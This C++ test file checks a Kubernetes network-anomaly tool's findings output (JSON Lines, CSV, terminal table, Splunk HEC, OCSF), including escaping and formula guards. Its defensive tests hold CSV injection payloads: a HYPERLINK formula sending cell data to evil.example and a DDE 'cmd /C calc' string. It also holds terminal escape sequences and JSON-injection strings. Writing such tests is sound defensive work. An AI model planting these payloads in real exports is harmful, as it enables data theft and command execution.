// Spec O1–O4 and O6.5: findings as JSON Lines, CSV (formula-safe), a terminal table, Splunk
// HEC events and OCSF Detection Findings. Golden files: tests/data/golden_findings.*, compared byte
// for byte; the JSON outputs are also parsed back with simdjson.
#include <catch2/catch.hpp>

#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <simdjson.h>

#include <k8snetio/io/csv.hpp>
#include <k8snetio/io/output/findings_writer.hpp>
#include <k8snetio/io/output/json_escape.hpp>
#include <k8snetio/rules/anomalous_network_io.hpp>

#include "support.hpp"

namespace test_findings_writer {

using namespace k8snetio;
using namespace k8snetio::io;

namespace {

using k8snetio::test::read_fixture;

std::vector<std::string> lines_of(std::string_view text) {
  std::vector<std::string> lines;
  while (!text.empty()) {
    const auto end = text.find('\n');
    lines.emplace_back(text.substr(0, end));
    text.remove_prefix(end == std::string_view::npos ? text.size() : end + 1);
  }
  return lines;
}

/// Three findings: the main rule (one text with both measures), the ratio rule, and a
/// cluster name with a comma, quotes and non-ASCII, with D6.4's `inf` z-score option text.
std::vector<finding> golden_findings() {
  finding checkout;
  checkout.cluster = "prod";
  checkout.host = "node-1";
  checkout.pod = "checkout-7d4b9c8f6d-x2k9p";
  checkout.service = "checkout";
  checkout.count = 6;
  checkout.anomalies = {
      "inbound_network_io higher than average by 4.20 Standard Deviations. "
      "inbound_network_io=4100 avg_inbound_network_io=2000 'stdev_inbound_network_io'=500, "
      "outbound_network_io higher than average by 6.00 Standard Deviations. "
      "outbound_network_io=1600 avg_outbound_network_io=1000 'stdev_outbound_network_io'=100",
      "outbound_network_io higher than average by 5.00 Standard Deviations. "
      "outbound_network_io=1500 avg_outbound_network_io=1000 'stdev_outbound_network_io'=100"};
  checkout.window_start = 1700000000;
  checkout.window_end = 1700003600;
  checkout.rule = k8snetio::own_rule_metadata(anomalous_network_io_rule);

  finding web;
  web.cluster = "prod-eu";
  web.host = "node-15";
  web.pod = "web-abcdef1-x2k9p";
  web.service = "web-abcdef1";
  web.count = 7;
  web.anomalies = {
      "inbound:outbound ratio higher than average by 12.35 Standard Deviations. "
      "inbound:outbound=3.47 avg_inbound:outbound=0.5 'stdev_inbound:outbound'=0.2405"};
  web.window_start = 1700000000;
  web.window_end = 1700003600;
  web.rule = k8snetio::own_rule_metadata(network_io_ratio_rule);

  finding lab;
  lab.cluster = "lab, \"\xCE\xB1\"";  // lab, "α"
  lab.host = "node-2";
  lab.pod = "db-0";
  lab.service = "db-0";
  lab.count = 9;
  lab.anomalies = {
      "outbound_network_io higher than average by inf Standard Deviations. "
      "outbound_network_io=1e+16 avg_outbound_network_io=1000.50 'stdev_outbound_network_io'=0"};
  lab.window_start = 1700003600;
  lab.window_end = 1700007200;
  return {checkout, web, lab};
}

/// One anomalous measure as the detector records it (library.md A8): the z-score is computed,
/// as D6.3 does, and null for a zero stdev.
anomalous_measure measured(std::int64_t time, std::string measure, double value, double avg,
                           std::string avg_text, double stdev, std::string stdev_text) {
  return {time,
          std::move(measure),
          value,
          avg,
          stdev,
          std::move(avg_text),
          std::move(stdev_text),
          stdev == 0 ? std::nullopt : std::optional<double>((value - avg) / stdev)};
}

/// The golden findings with the data their texts were rendered from (finding::measures, by
/// time), as an engine gives them: what OCSF renders (A8). The main rule's finding has its
/// buckets out of text order, and one bucket twice (the same text, D7.1's distinct).
std::vector<finding> golden_findings_with_measures() {
  auto findings = golden_findings();
  findings[0].measures = {
      measured(1700000000, "outbound_network_io", 1500, 1000, "1000", 100, "100"),
      measured(1700000010, "inbound_network_io", 4100, 2000, "2000", 500, "500"),
      measured(1700000010, "outbound_network_io", 1600, 1000, "1000", 100, "100"),
      measured(1700000020, "outbound_network_io", 1500, 1000, "1000", 100, "100")};
  findings[1].measures = {
      measured(1700000000, "inbound:outbound", 3.47, 0.5, "0.5", 0.2405, "0.2405")};
  findings[2].measures = {
      measured(1700003600, "outbound_network_io", 1e16, 1000.5, "1000.50", 0, "0")};
  return findings;
}

/// Parses one JSON document; the parser must outlive the element.
simdjson::dom::element parse_json(simdjson::dom::parser& parser, std::string_view line) {
  simdjson::dom::element doc;
  const auto error = parser.parse(simdjson::padded_string(line)).get(doc);
  INFO(line);
  REQUIRE_FALSE(error);
  return doc;
}

std::string_view str(simdjson::dom::element e) { return std::string_view(e); }

/// The O1 fields of a finding, as an object parsed back.
void check_o1_fields(simdjson::dom::object o, const finding& f) {
  const rule_metadata& rule = *f.rule;
  CHECK(str(o["k8s.cluster.name"]) == f.cluster);
  CHECK(str(o["host"]) == f.host);
  CHECK(str(o["k8s.pod.name"]) == f.pod);
  CHECK(str(o["k8s.service"]) == f.service);
  CHECK(std::uint64_t(o["count"]) == f.count);
  std::vector<std::string> anomalies;
  for (auto a : simdjson::dom::array(o["anomalies"])) anomalies.emplace_back(str(a));
  CHECK(anomalies == f.anomalies);
  CHECK(std::int64_t(o["window_start"]) == f.window_start);
  CHECK(std::int64_t(o["window_end"]) == f.window_end);
  CHECK(str(o["search_name"]) == rule.name);
  CHECK(str(o["rule_id"]) == rule.id);
  simdjson::dom::array mitre = o["mitre_attack_id"];
  REQUIRE(mitre.size() == 1);
  CHECK(str(mitre.at(0)) == "T1204");
  CHECK(str(o["risk_object"]) == f.host);
  CHECK(str(o["risk_object_type"]) == "system");
  CHECK(std::int64_t(o["risk_score"]) == 20);
  CHECK(str(o["risk_message"]) == f.risk_message());
  CHECK(o.size() == 15);
}

std::vector<std::string_view> keys_of(simdjson::dom::object o) {
  std::vector<std::string_view> keys;
  for (auto field : o) keys.push_back(field.key);
  return keys;
}

}  // namespace

// ---------------------------------------------------------------------------------------------
// O1

TEST_CASE("O1 JSON Lines: golden output, byte for byte") {
  std::string out;
  write_findings_jsonl(out, golden_findings());
  CHECK(out == read_fixture("golden_findings.jsonl"));
}

TEST_CASE("O1 JSON Lines parse back with every field, in a stable key order") {
  const auto findings = golden_findings();
  const std::string out = write_findings(findings, output_format::jsonl);
  const auto lines = lines_of(out);
  REQUIRE(lines.size() == findings.size());
  simdjson::dom::parser parser;
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const auto doc = parse_json(parser, lines[i]);
    check_o1_fields(doc, findings[i]);
    CHECK(keys_of(doc) ==
          std::vector<std::string_view>{"k8s.cluster.name", "host", "k8s.pod.name", "k8s.service",
                                        "count", "anomalies", "window_start", "window_end",
                                        "search_name", "rule_id", "mitre_attack_id", "risk_object",
                                        "risk_object_type", "risk_score", "risk_message"});
  }
  CHECK(write_findings(std::vector<finding>{}, output_format::jsonl).empty());
}

TEST_CASE("O1 JSON escaping of hostile strings") {
  CHECK(json_string("") == "\"\"");
  CHECK(json_string("plain text: 1,2") == "\"plain text: 1,2\"");
  CHECK(json_string("a\"b\\c/d") == "\"a\\\"b\\\\c/d\"");
  CHECK(json_string("\n\r\t\b\f") == "\"\\n\\r\\t\\b\\f\"");
  CHECK(json_string(std::string_view("\x00\x01\x1f\x7f", 4)) == "\"\\u0000\\u0001\\u001f\\u007f\"");
  CHECK(json_string("\x1b[31mred") == "\"\\u001b[31mred\"");
  // Well-formed UTF-8 passes through: 2, 3 and 4 byte sequences.
  CHECK(json_string("\xCE\xB1 \xE2\x82\xAC \xF0\x9F\x98\x80") ==
        "\"\xCE\xB1 \xE2\x82\xAC \xF0\x9F\x98\x80\"");
  // U+2028 and U+2029 are escaped (they end lines in JavaScript).
  CHECK(json_string("a\xE2\x80\xA8"
                    "b\xE2\x80\xA9") == "\"a\\u2028b\\u2029\"");
  // Ill-formed UTF-8: each maximal ill-formed subpart becomes one U+FFFD.
  CHECK(json_string("\xFF") == "\"\\ufffd\"");
  CHECK(json_string("\x80\x80") == "\"\\ufffd\\ufffd\"");
  CHECK(json_string("\xE2\x82"
                    "A") == "\"\\ufffdA\"");                          // truncated 3-byte sequence
  CHECK(json_string("\xE2\x82") == "\"\\ufffd\"");                    // truncated at the end
  CHECK(json_string("\xC0\xAF") == "\"\\ufffd\\ufffd\"");             // overlong '/'
  CHECK(json_string("\xE0\x80\xAF") == "\"\\ufffd\\ufffd\\ufffd\"");  // overlong, 3 bytes
  CHECK(json_string("\xED\xA0\x80") == "\"\\ufffd\\ufffd\\ufffd\"");  // a surrogate
  CHECK(json_string("\xF4\x90\x80\x80") == "\"\\ufffd\\ufffd\\ufffd\\ufffd\"");  // > U+10FFFF
  CHECK(json_string("\xF0\x9F\x98") == "\"\\ufffd\"");  // truncated 4-byte sequence

  // Every hostile field of a finding still makes one valid JSON line that parses back.
  finding f = golden_findings()[0];
  f.cluster = std::string("c\"l\\u\nster\x01\x7f", 13);
  f.host = "h\xE2\x80\xA8o\xCE\xB1st";
  f.pod = "pod\r\n{\"injected\":true}";
  f.service = "\xFF\xFEsvc";
  f.anomalies = {"tab\there", "quote\"s", std::string("nul\0byte", 8)};
  const std::string out = write_findings(std::vector<finding>{f}, output_format::jsonl);
  CHECK(std::count(out.begin(), out.end(), '\n') == 1);
  simdjson::dom::parser parser;
  const auto doc = parse_json(parser, out);
  CHECK(str(doc["k8s.cluster.name"]) == f.cluster);
  CHECK(str(doc["host"]) == f.host);
  CHECK(str(doc["k8s.pod.name"]) == f.pod);
  CHECK(str(doc["k8s.service"]) == "\xEF\xBF\xBD\xEF\xBF\xBDsvc");  // U+FFFD twice
  std::vector<std::string> anomalies;
  for (auto a : simdjson::dom::array(doc["anomalies"])) anomalies.emplace_back(str(a));
  CHECK(anomalies == f.anomalies);
  CHECK(str(doc["risk_object"]) == f.host);
}

// ---------------------------------------------------------------------------------------------
// O2

TEST_CASE("O2 CSV: golden output, byte for byte") {
  std::string out;
  write_findings_csv(out, golden_findings());
  CHECK(out == read_fixture("golden_findings.csv"));
}

TEST_CASE("O2 CSV reads back: multivalue fields as one quoted cell joined by newlines") {
  const auto findings = golden_findings();
  const std::string out = write_findings(findings, output_format::csv);
  csv_tokenizer tokenizer;
  std::size_t pos = 0;
  std::vector<std::vector<std::string>> records;
  while (tokenizer.parse(std::string_view(out).substr(pos), true) ==
         csv_tokenizer::status::record) {
    pos += tokenizer.consumed();
    const auto record = tokenizer.record();
    REQUIRE(record.syntax == csv_syntax::ok);
    records.emplace_back(record.fields.begin(), record.fields.end());
  }
  REQUIRE(records.size() == findings.size() + 1);
  CHECK(records[0] == std::vector<std::string>{"k8s.cluster.name", "host", "k8s.pod.name",
                                               "k8s.service", "count", "anomalies", "window_start",
                                               "window_end", "search_name", "rule_id",
                                               "mitre_attack_id", "risk_object", "risk_object_type",
                                               "risk_score", "risk_message"});
  for (std::size_t i = 0; i < findings.size(); ++i) {
    const auto& row = records[i + 1];
    const auto& f = findings[i];
    REQUIRE(row.size() == 15);
    CHECK(row[0] == f.cluster);
    CHECK(row[2] == f.pod);
    CHECK(row[4] == std::to_string(f.count));
    std::string joined;
    for (const auto& a : f.anomalies) joined += (joined.empty() ? "" : "\n") + a;
    CHECK(row[5] == joined);
    CHECK(row[8] == f.rule->name);
    CHECK(row[10] == "T1204");
    CHECK(row[14] == f.risk_message());
  }
  CHECK(write_findings(std::vector<finding>{}, output_format::csv) ==
        out.substr(0, out.find('\n') + 1));  // the header alone
}

TEST_CASE("O2 table: golden output, byte for byte") {
  std::string out;
  write_findings_table(out, golden_findings());
  CHECK(out == read_fixture("golden_findings.txt"));
}

TEST_CASE("O2 table: readable at 100 columns, No findings. when empty") {
  CHECK(write_findings(std::vector<finding>{}, output_format::table) == "No findings.\n");
  auto findings = golden_findings();
  findings[1].anomalies.push_back(std::string(150, 'x') + " tail");  // a word longer than a line
  const std::string out = write_findings(findings, output_format::table);
  for (const auto& line : lines_of(out)) {
    INFO(line);
    CHECK(io::detail::display_width(line) <= 100);
  }
  CHECK(out.find("  - " + std::string(96, 'x') + "\n    " + std::string(54, 'x') + " tail\n") !=
        std::string::npos);
  CHECK(out.ends_with("\n3 findings.\n"));
  std::string narrow;
  write_findings_table(narrow, findings, table_options{60});
  for (const auto& line : lines_of(narrow)) {
    if (line.starts_with("  -") || line.starts_with("    "))
      CHECK(io::detail::display_width(line) <= 60);
  }
}

TEST_CASE("O2 table: control characters are shown escaped, never sent to the terminal") {
  finding f = golden_findings()[0];
  f.pod = "evil\x1b]0;pwned\x07pod";
  f.service =
      "s\xC2\x9B"
      "31m";  // C1 CSI
  f.anomalies = {"line\nbreak", "bad \xFF utf8"};
  const std::string out = write_findings(std::vector<finding>{f}, output_format::table);
  CHECK(out.find('\x1b') == std::string::npos);
  CHECK(out.find('\x07') == std::string::npos);
  CHECK(out.find("\xC2\x9B") == std::string::npos);
  CHECK(out.find("evil\\x1b]0;pwned\\x07pod") != std::string::npos);
  CHECK(out.find("(s\\u009b31m)") != std::string::npos);
  CHECK(out.find("  - line\\x0abreak\n") != std::string::npos);
  CHECK(out.find("  - bad \xEF\xBF\xBD utf8\n") != std::string::npos);
  CHECK(out.ends_with("\n1 finding.\n"));
}

// ---------------------------------------------------------------------------------------------
// O3

TEST_CASE("O3 HEC events: golden output, byte for byte") {
  std::string out;
  write_findings_hec(out, golden_findings());
  // golden_findings.hec.jsonl predates O3's top-level host, which closes each envelope.
  std::string expected;
  const auto findings = golden_findings();
  const auto golden = lines_of(read_fixture("golden_findings.hec.jsonl"));
  REQUIRE(golden.size() == findings.size());
  for (std::size_t i = 0; i < golden.size(); ++i) {
    if (golden[i].ends_with(",\"host\":" + json_string(findings[i].host) + "}")) {
      expected += golden[i] + "\n";  // the fixture already has it
      continue;
    }
    REQUIRE(golden[i].ends_with("}"));
    expected += golden[i].substr(0, golden[i].size() - 1) +
                ",\"host\":" + json_string(findings[i].host) + "}\n";
  }
  CHECK(out == expected);
}

TEST_CASE("O3 HEC events parse back: time, event with the O1 fields, sourcetype, source, host") {
  const auto findings = golden_findings();
  const auto lines = lines_of(write_findings(findings, output_format::hec));
  REQUIRE(lines.size() == findings.size());
  simdjson::dom::parser parser;
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const auto doc = parse_json(parser, lines[i]);
    CHECK(keys_of(doc) ==
          std::vector<std::string_view>{"time", "event", "sourcetype", "source", "host"});
    CHECK(std::int64_t(doc["time"]) == findings[i].window_end);
    check_o1_fields(doc["event"], findings[i]);
    CHECK(str(doc["sourcetype"]) == "k8snetio:finding");
    CHECK(str(doc["source"]) == findings[i].rule->name);
    CHECK(str(doc["host"]) == findings[i].host);
  }
}

TEST_CASE("O3 HEC events carry the index the user names, escaped") {
  const auto findings = golden_findings();
  findings_write_options options;
  options.hec_index = "k8s_\"net\"";
  std::string out;
  write_findings(out, findings, output_format::hec, options);
  const auto lines = lines_of(out);
  REQUIRE(lines.size() == findings.size());
  simdjson::dom::parser parser;
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const auto doc = parse_json(parser, lines[i]);
    CHECK(keys_of(doc) ==
          std::vector<std::string_view>{"time", "event", "sourcetype", "source", "host", "index"});
    CHECK(str(doc["index"]) == "k8s_\"net\"");
    CHECK(str(doc["host"]) == findings[i].host);
  }
  // No index: none in the envelope (HEC then uses the token's default index).
  CHECK(write_findings(findings, output_format::hec).find("\"index\"") == std::string::npos);
}

// ---------------------------------------------------------------------------------------------
// O6.5

namespace {

std::vector<std::vector<std::string>> csv_records(std::string_view text) {
  csv_tokenizer tokenizer;
  std::size_t pos = 0;
  std::vector<std::vector<std::string>> records;
  while (tokenizer.parse(text.substr(pos), true) == csv_tokenizer::status::record) {
    pos += tokenizer.consumed();
    const auto record = tokenizer.record();
    REQUIRE(record.syntax == csv_syntax::ok);
    records.emplace_back(record.fields.begin(), record.fields.end());
  }
  return records;
}

finding hostile_finding() {
  finding f = golden_findings()[0];
  f.cluster = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  f.host = "+cmd|' /C calc'!A0";
  f.pod = "-2+3";
  f.service = "@SUM(1+1)";
  f.anomalies = {"\t=1+1", "\r=2"};
  f.window_start = -3600;  // a number: never touched
  return f;
}

}  // namespace

TEST_CASE("O6.5 CSV cells that start like a formula get a leading quote and are quoted") {
  const std::vector<finding> findings{hostile_finding()};
  const std::string out = write_findings(findings, output_format::csv);
  const auto records = csv_records(out);
  REQUIRE(records.size() == 2);
  const auto& row = records[1];
  const finding& f = findings[0];
  CHECK(row[0] == "'" + f.cluster);
  CHECK(row[1] == "'" + f.host);
  CHECK(row[2] == "'-2+3");
  CHECK(row[3] == "'@SUM(1+1)");
  CHECK(row[5] == "'\t=1+1\n\r=2");
  CHECK(row[6] == "-3600");            // numbers stay numbers
  CHECK(row[11] == "'" + f.host);      // risk_object
  CHECK(row[14] == f.risk_message());  // starts with the rule's text, not the host
  // Each guarded cell is quoted in the file, so a spreadsheet reads it as text.
  CHECK(out.find(",\"'-2+3\",") != std::string::npos);
  CHECK(out.find(",\"'@SUM(1+1)\",") != std::string::npos);
  // Safe cells are as before.
  CHECK(write_findings(golden_findings(), output_format::csv) ==
        read_fixture("golden_findings.csv"));
}

TEST_CASE("O6.5 --csv-raw: the guard off writes cells as they are") {
  const std::vector<finding> findings{hostile_finding()};
  findings_write_options raw;
  raw.csv_formula_guard = false;
  std::string out;
  write_findings(out, findings, output_format::csv, raw);
  const auto row = csv_records(out).at(1);
  CHECK(row[0] == findings[0].cluster);
  CHECK(row[2] == "-2+3");
  CHECK(out.find(",-2+3,") != std::string::npos);
  CHECK(row[3] == "@SUM(1+1)");
  // The guard applies to the CSV only: JSON keeps the value.
  CHECK(write_findings(findings, output_format::jsonl).find("\"k8s.pod.name\":\"-2+3\"") !=
        std::string::npos);
}

TEST_CASE("O2 table: a long name is cut, so it cannot widen every row") {
  auto findings = golden_findings();
  findings[0].pod = std::string(500'000, 'p');
  findings[1].service = std::string(300, 's');
  const std::string out = write_findings(findings, output_format::table);
  CHECK(out.size() < 10'000);
  for (const auto& line : lines_of(out)) {
    INFO(line.substr(0, 200));
    CHECK(io::detail::display_width(line) <= 4 * 66 + 2);
  }
  CHECK(out.find(std::string(63, 'p') + "\xE2\x80\xA6") != std::string::npos);
  CHECK(out.find("(" + std::string(63, 's') + "\xE2\x80\xA6)") != std::string::npos);
  // Short names keep their alignment.
  CHECK(write_findings(golden_findings(), output_format::table) ==
        read_fixture("golden_findings.txt"));
}

// ---------------------------------------------------------------------------------------------
// O4

TEST_CASE("O4 OCSF Detection Findings: golden output, byte for byte") {
  std::string out;
  write_findings_ocsf(out, golden_findings_with_measures());
  CHECK(out == read_fixture("golden_findings.ocsf.jsonl"));
}

TEST_CASE("O4 OCSF Detection Findings parse back with the required fields") {
  const auto findings = golden_findings_with_measures();
  const auto lines = lines_of(write_findings(findings, output_format::ocsf));
  REQUIRE(lines.size() == findings.size());
  simdjson::dom::parser parser;
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const finding& f = findings[i];
    const auto doc = parse_json(parser, lines[i]);
    CHECK(std::int64_t(doc["class_uid"]) == 2004);
    CHECK(std::int64_t(doc["category_uid"]) == 2);
    CHECK(std::int64_t(doc["activity_id"]) == 1);
    CHECK(std::int64_t(doc["type_uid"]) == 200401);
    CHECK(std::int64_t(doc["severity_id"]) == 2);
    CHECK(std::int64_t(doc["time"]) == f.window_end * 1000);
    CHECK(str(doc["metadata"]["version"]) == "1.5.0");
    CHECK(str(doc["metadata"]["product"]["name"]) == "k8snetio");
    CHECK(str(doc["metadata"]["product"]["vendor_name"]) == "k8snetio");
    CHECK(str(doc["metadata"]["product"]["version"]) == version_string);
    const auto info = doc["finding_info"];
    CHECK(str(info["uid"]) == finding_uid(f));
    CHECK(str(info["title"]) == f.rule->name);
    CHECK(str(info["analytic"]["name"]) == f.rule->name);
    CHECK(str(info["analytic"]["uid"]) == f.rule->id);
    CHECK(std::int64_t(info["analytic"]["type_id"]) == 3);
    CHECK(str(info["analytic"]["type"]) == "Statistical");
    simdjson::dom::array attacks = info["attacks"];
    REQUIRE(attacks.size() == 1);
    CHECK(str(attacks.at(0)["technique"]["uid"]) == "T1204");
    CHECK(str(attacks.at(0)["technique"]["name"]) == "User Execution");
    CHECK(str(attacks.at(0)["tactic"]["uid"]) == "TA0002");
    CHECK(str(attacks.at(0)["tactic"]["name"]) == "Execution");
    CHECK(std::int64_t(info["first_seen_time"]) == f.window_start * 1000);
    CHECK(std::int64_t(info["last_seen_time"]) == f.window_end * 1000);
    simdjson::dom::array resources = doc["resources"];
    REQUIRE(resources.size() == 1);
    CHECK(str(resources.at(0)["name"]) == f.pod);
    CHECK(str(resources.at(0)["type"]) == "k8s.pod");
    CHECK(str(resources.at(0)["hostname"]) == f.host);
    CHECK(str(resources.at(0)["labels"].at(0)) == "k8s.cluster.name=" + f.cluster);
    CHECK(std::int64_t(doc["risk_score"]) == 20);
    CHECK(str(doc["message"]) == f.risk_message());
    CHECK(str(doc["unmapped"]["k8s.cluster.name"]) == f.cluster);
    CHECK(str(doc["unmapped"]["k8s.service"]) == f.service);
  }

  // The main rule's finding: two measures, each with its observations and baseline.
  const auto doc = parse_json(parser, lines[0]);
  simdjson::dom::array analyses = doc["anomaly_analyses"];
  REQUIRE(analyses.size() == 2);
  const auto inbound = analyses.at(0);
  CHECK(str(inbound["analysis_targets"].at(0)["name"]) == findings[0].pod);
  CHECK(str(inbound["anomalies"].at(0)["observation_parameter"]) == "inbound_network_io");
  CHECK(str(inbound["anomalies"].at(0)["observations"].at(0)["value"]) == "4100");
  CHECK(str(inbound["baselines"].at(0)["observation_parameter"]) == "avg_inbound_network_io");
  CHECK(str(inbound["baselines"].at(0)["observations"].at(0)["value"]) == "2000");
  CHECK(str(inbound["baselines"].at(1)["observation_parameter"]) == "stdev_inbound_network_io");
  CHECK(str(inbound["baselines"].at(1)["observations"].at(0)["value"]) == "500");
  const auto outbound = analyses.at(1);
  CHECK(str(outbound["anomalies"].at(0)["observation_parameter"]) == "outbound_network_io");
  simdjson::dom::array observed = outbound["anomalies"].at(0)["observations"];
  REQUIRE(observed.size() == 2);  // 1600 and 1500, one baseline
  CHECK(str(observed.at(1)["value"]) == "1500");
  CHECK(simdjson::dom::array(outbound["baselines"].at(0)["observations"]).size() == 1);

  simdjson::dom::array scores = doc["unmapped"]["anomaly_scores"];
  REQUIRE(scores.size() == 3);
  CHECK(str(scores.at(0)["measure"]) == "inbound_network_io");
  CHECK(double(scores.at(0)["observed"]) == 4100);
  CHECK(double(scores.at(0)["baseline"]["avg"]) == 2000);
  CHECK(double(scores.at(0)["baseline"]["stdev"]) == 500);
  CHECK(double(scores.at(0)["z_score"]) == 4.2);
  CHECK(str(scores.at(1)["measure"]) == "outbound_network_io");
  CHECK(double(scores.at(2)["observed"]) == 1500);
  CHECK(double(scores.at(2)["z_score"]) == 5);

  // The ratio rule's measure names hold a colon; a z-score printed "inf" is null.
  const auto ratio = parse_json(parser, lines[1]);
  CHECK(str(ratio["anomaly_analyses"].at(0)["anomalies"].at(0)["observation_parameter"]) ==
        "inbound:outbound");
  CHECK(double(ratio["unmapped"]["anomaly_scores"].at(0)["baseline"]["stdev"]) == 0.2405);
  const auto lab = parse_json(parser, lines[2]);
  CHECK(lab["unmapped"]["anomaly_scores"].at(0)["z_score"].is_null());
  CHECK(double(lab["unmapped"]["anomaly_scores"].at(0)["observed"]) == 1e16);
  CHECK(str(lab["anomaly_analyses"].at(0)["baselines"].at(0)["observations"].at(0)["value"]) ==
        "1000.50");  // F3: the text as the table had it
}

TEST_CASE("O4 finding_info.uid is stable and depends on rule, cluster, node, pod, window start") {
  const finding f = golden_findings()[0];
  const std::string uid = finding_uid(f);
  CHECK(uid.size() == 16);
  CHECK(uid.find_first_not_of("0123456789abcdef") == std::string::npos);
  CHECK(finding_uid(f) == uid);
  finding g = f;
  g.count = 99;
  g.anomalies.clear();
  g.window_end += 10;
  CHECK(finding_uid(g) == uid);  // not part of the identity
  for (auto change :
       {+[](finding& x) { x.rule = k8snetio::own_rule_metadata(network_io_ratio_rule); },
        +[](finding& x) { x.cluster += "x"; }, +[](finding& x) { x.host += "x"; },
        +[](finding& x) { x.pod += "x"; }, +[](finding& x) { x.window_start += 1; }}) {
    finding h = f;
    change(h);
    CHECK(finding_uid(h) != uid);
  }
  // Field boundaries count: ("ab", "c") is not ("a", "bc").
  finding a = f, b = f;
  a.cluster = "ab";
  a.host = "c";
  b.cluster = "a";
  b.host = "bc";
  CHECK(finding_uid(a) != finding_uid(b));
}

TEST_CASE("A8 OCSF renders the anomaly measures from the finding's data, never its texts") {
  simdjson::dom::parser parser;
  SECTION("the measures of each distinct text, in the texts' order") {
    const auto parts = anomaly_measurements(golden_findings_with_measures()[0]);
    REQUIRE(parts.size() == 3);  // the bucket given twice is one text
    CHECK(parts[0].measure == "inbound_network_io");
    CHECK(parts[0].z_score == 4.2);
    CHECK(parts[0].z_score_text == "4.20");
    CHECK(parts[0].observed_text == "4100");
    CHECK(parts[1].measure == "outbound_network_io");
    CHECK(parts[1].observed == 1600.0);
    CHECK(parts[2].observed == 1500.0);
    CHECK(parts[2].stdev_text == "100");
  }
  SECTION("the z-score is the printed one; a zero stdev's is null (D6.4)") {
    finding f = golden_findings()[1];
    f.measures = {measured(1700000000, "inbound:outbound", 0.30000000000000004, 1.5e-05, "1.5e-05",
                           0.123, "0.123")};
    const auto parts = anomaly_measurements(f);
    REQUIRE(parts.size() == 1);
    CHECK(parts[0].observed_text == "0.30000000000000004");
    CHECK(parts[0].avg == 1.5e-05);
    CHECK(parts[0].z_score_text == "2.44");
    CHECK(parts[0].z_score == 2.44);
    const auto lab = anomaly_measurements(golden_findings_with_measures()[2]);
    REQUIRE(lab.size() == 1);
    CHECK(lab[0].z_score_text == "inf");
    CHECK_FALSE(lab[0].z_score.has_value());
    CHECK(lab[0].stdev == 0.0);
  }
  SECTION("a text that says otherwise does not change the numbers") {
    finding f = golden_findings_with_measures()[0];
    for (auto& text : f.anomalies)
      text =
          "m higher than average by 99.00 Standard Deviations. "
          "m=1 avg_m=1 'stdev_m'=1";
    const auto doc =
        parse_json(parser, write_findings(std::vector<finding>{f}, output_format::ocsf));
    simdjson::dom::array scores = doc["unmapped"]["anomaly_scores"];
    REQUIRE(scores.size() == 3);
    CHECK(str(scores.at(0)["measure"]) == "inbound_network_io");
    CHECK(double(scores.at(0)["z_score"]) == 4.2);
  }
  SECTION("a finding without measures (made by hand) has texts but no analyses") {
    const auto doc = parse_json(
        parser, write_findings(std::vector<finding>{golden_findings()[0]}, output_format::ocsf));
    CHECK(simdjson::dom::array(doc["anomaly_analyses"]).size() == 0);
    CHECK(simdjson::dom::array(doc["unmapped"]["anomaly_scores"]).size() == 0);
    CHECK(simdjson::dom::array(doc["unmapped"]["anomalies"]).size() == 2);
  }
}

TEST_CASE("O4 the spec's worked example (§8) end to end") {
  baseline_table<2> table(network_io_measures);
  baseline_entry<2> e;
  e.avg[1] = baseline_cell::from_number(1000);
  e.stdev[1] = baseline_cell::from_number(100);
  e.avg[0] = baseline_cell::from_number(2000);
  e.stdev[0] = baseline_cell::from_number(500);
  REQUIRE(table.insert("prod:checkout", e));
  std::vector<metric_point> points;
  for (int b = 0; b < 6; ++b) {
    const double t = 1700000000.0 + 10 * b;
    points.push_back(
        {t, 1400, "k8s.pod.network.io", "prod", "checkout-7d4b9c8f6d-x2k9p", "node-1", "transmit"});
    points.push_back({t + 1, 1600, "k8s.pod.network.io", "prod", "checkout-7d4b9c8f6d-x2k9p",
                      "node-1", "transmit"});
    points.push_back({t + 2, 2100, "k8s.pod.network.io", "prod", "checkout-7d4b9c8f6d-x2k9p",
                      "node-1", "receive"});
  }
  const auto result = detect_anomalous_network_io(points, table);
  REQUIRE(result.findings.size() == 1);
  const std::string line = write_findings(result.findings, output_format::ocsf);
  simdjson::dom::parser parser;
  const auto doc = parse_json(parser, line);
  simdjson::dom::array scores = doc["unmapped"]["anomaly_scores"];
  REQUIRE(scores.size() == 1);
  CHECK(str(scores.at(0)["measure"]) == "outbound_network_io");
  CHECK(double(scores.at(0)["observed"]) == 1500);
  CHECK(double(scores.at(0)["baseline"]["avg"]) == 1000);
  CHECK(double(scores.at(0)["baseline"]["stdev"]) == 100);
  CHECK(double(scores.at(0)["z_score"]) == 5);
  CHECK(std::uint64_t(doc["count"]) == 6);
}

// ---------------------------------------------------------------------------------------------
// Any format

TEST_CASE("O1-O5 output formats by name, and the stream writer") {
  for (auto f : {output_format::jsonl, output_format::csv, output_format::table, output_format::hec,
                 output_format::ocsf, output_format::risk, output_format::html}) {
    const auto parsed = parse_output_format(to_string(f));
    REQUIRE(parsed.has_value());
    CHECK(*parsed == f);
    std::ostringstream stream;
    write_findings(stream, golden_findings(), f);
    CHECK(stream.str() == write_findings(golden_findings(), f));
  }
  CHECK(parse_output_format("json") == output_format::jsonl);
  CHECK(parse_output_format("ndjson") == output_format::jsonl);
  const auto bad = parse_output_format("xml");
  REQUIRE_FALSE(bad.has_value());
  CHECK(bad.error().code == error_code::bad_option);
  CHECK(bad.error().message ==
        "unknown output format 'xml' (expected jsonl, csv, table, hec, risk, ocsf or html)");
  CHECK_FALSE(parse_output_format("JSONL").has_value());
}

TEST_CASE("O2 window times are printed in UTC, ISO 8601") {
  CHECK(io::detail::format_utc(0) == "1970-01-01T00:00:00Z");
  CHECK(io::detail::format_utc(1700000000) == "2023-11-14T22:13:20Z");
  CHECK(io::detail::format_utc(951782400) == "2000-02-29T00:00:00Z");
  CHECK(io::detail::format_utc(-1) == "1969-12-31T23:59:59Z");
  CHECK(io::detail::format_utc(253402300799) == "9999-12-31T23:59:59Z");
}

}  // namespace test_findings_writer
